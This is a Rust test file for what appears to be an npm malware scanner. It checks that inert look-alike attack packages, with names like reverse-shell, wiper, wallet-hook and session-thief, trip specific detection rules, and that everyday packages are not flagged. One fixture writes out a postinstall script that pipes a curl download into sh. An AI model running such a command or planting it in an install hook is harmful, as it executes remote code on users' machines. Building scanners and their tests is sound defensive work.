//! Inert look-alikes of campaigns against npm users are called malicious for the right reason; everyday
//! packages that share their words and habits are not.

use crate::common::{options, scan_one, write};
use doorward_protocol::{PackageReport, Verdict};
use doorward_scan::{Cancel, scan};
use std::collections::BTreeMap;
use std::fs;
use std::path::{Path, PathBuf};

/// Each look-alike, with the rules that must be among its findings.
const MALICIOUS: &[(&str, &[&str])] = &[
    ("npm-address-swap", &["I-01", "R-28"]),
    ("npm-agent-inventory", &["R-12", "P-04"]),
    ("npm-agent-server", &["A-04"]),
    ("npm-bot-door", &["P-06"]),
    ("npm-bot-upload", &["I-50"]),
    ("npm-chain-orders", &["I-02", "I-10"]),
    ("npm-client-patch", &["P-08"]),
    ("npm-commit-dependency", &["I-07", "I-08"]),
    ("npm-config-tail", &["M-08", "O-07", "O-08"]),
    ("npm-dns-beacon", &["I-13", "R-19"]),
    ("npm-download-run", &["I-10", "R-23", "R-24"]),
    ("npm-encrypted-payload", &["O-06"]),
    ("npm-environment", &["R-02"]),
    ("npm-gyp", &["I-06", "I-50"]),
    ("npm-hidden-child", &["I-10", "R-24"]),
    ("npm-history-rewrite", &["R-17"]),
    ("npm-invisible", &["O-01"]),
    ("npm-job-test", &["P-09"]),
    ("npm-key-telemetry", &["R-14"]),
    ("npm-lateral", &["R-25"]),
    ("npm-mcp-entry", &["A-03"]),
    ("npm-npmrc", &["I-15"]),
    ("npm-obfuscated-flattened", &["I-50", "O-03"]),
    ("npm-obfuscated-hook", &["I-50", "O-03"]),
    ("npm-obfuscated-rc4", &["M-50", "O-03"]),
    ("npm-obfuscated-runtime", &["M-50", "O-03"]),
    ("npm-off-screen", &["O-08"]),
    ("npm-onboarding", &["I-12"]),
    ("npm-phantom-dependency", &["I-10"]),
    ("npm-remote-dependency", &["I-07"]),
    ("npm-remote-eval", &["I-10"]),
    ("npm-remote-eval-runtime", &["M-01"]),
    ("npm-reverse-shell", &["R-50"]),
    ("npm-rootkit", &["R-26"]),
    ("npm-rules-drop", &["A-50"]),
    ("npm-runner", &["P-10"]),
    ("npm-runner-memory", &["R-08"]),
    ("npm-seed-check", &["R-14"]),
    ("npm-service", &["P-01"]),
    ("npm-session-thief", &["R-52", "R-03"]),
    ("npm-shipped-program", &["I-05"]),
    ("npm-ssh-door", &["P-06", "R-29"]),
    ("npm-staging", &["R-21", "I-50"]),
    ("npm-sudo", &["R-29"]),
    ("npm-taken-over-parser", &["I-02", "I-10"]),
    ("npm-token-printing", &["R-07"]),
    ("npm-vendored", &["B-10", "M-01"]),
    ("npm-wallet-hook", &["R-15"]),
    ("npm-wiper", &["R-22"]),
    ("npm-workflow", &["P-10"]),
    ("npm-worm-bun", &["I-02", "I-04", "R-02"]),
    ("npm-worm-bundle", &["R-02", "R-16"]),
];

fn samples(kind: &str) -> PathBuf {
    let folder = PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("../../tests/samples").join(kind);
    folder.canonicalize().expect("the samples are there")
}

/// The reports on every sample of a kind that is an npm package, by the sample's folder.
fn reports(kind: &str) -> BTreeMap<String, PackageReport> {
    let folders: Vec<PathBuf> = fs::read_dir(samples(kind))
        .expect("list the samples")
        .map(|entry| entry.expect("an entry").path())
        .filter(|path| name_of(path).starts_with("npm-"))
        .collect();
    let report = scan(&folders, &options(), &Cancel::default(), &mut |_| {}).expect("the scan works");
    report.packages.into_iter().map(|package| (name_of(&package.path), package)).collect()
}

fn name_of(path: &Path) -> String {
    path.file_name().expect("a name").to_string_lossy().into_owned()
}

#[test]
fn every_look_alike_is_malicious_for_the_right_reason() {
    let reports = reports("malicious");
    for (name, rules) in MALICIOUS {
        let report = reports.get(*name).unwrap_or_else(|| panic!("{name} was not scanned"));
        let found: Vec<&str> = report.findings.iter().map(|finding| finding.rule.as_str()).collect();
        assert_eq!(report.verdict, Verdict::Malicious, "{name}: {found:?}");
        for rule in *rules {
            assert!(found.contains(rule), "{name}: {rule} is not among {found:?}");
        }
    }
    for (name, report) in &reports {
        assert_eq!(report.verdict, Verdict::Malicious, "{name}: {:#?}", report.findings);
    }
}

#[test]
fn everyday_packages_are_at_most_notable() {
    let reports = reports("benign");
    assert!(reports.len() > 15, "{}", reports.len());
    for (name, report) in reports {
        assert!(report.verdict <= Verdict::Notable, "{name}: {:#?}", report.findings);
    }
}

#[test]
fn bundles_and_nesting_that_are_meant_to_blind_are_survived() {
    let manifest =
        ("package.json", r#"{"name":"made-up","version":"1.0.0","scripts":{"postinstall":"node index.js"}}"#);
    let theft = "require('child_process').execSync('curl -s http://127.0.0.1:9/x | sh');\n";
    for filler in ["(".repeat(1_000_000), format!("'{}'", "x".repeat(8 << 20)), "a=>".repeat(300_000)] {
        let script = format!("{theft}\n{filler}\n");
        let folder = tempfile::tempdir().expect("a folder");
        write(folder.path(), &[manifest, ("index.js", &script)]);
        assert_eq!(scan_one(folder.path()).verdict, Verdict::Malicious);
    }
}
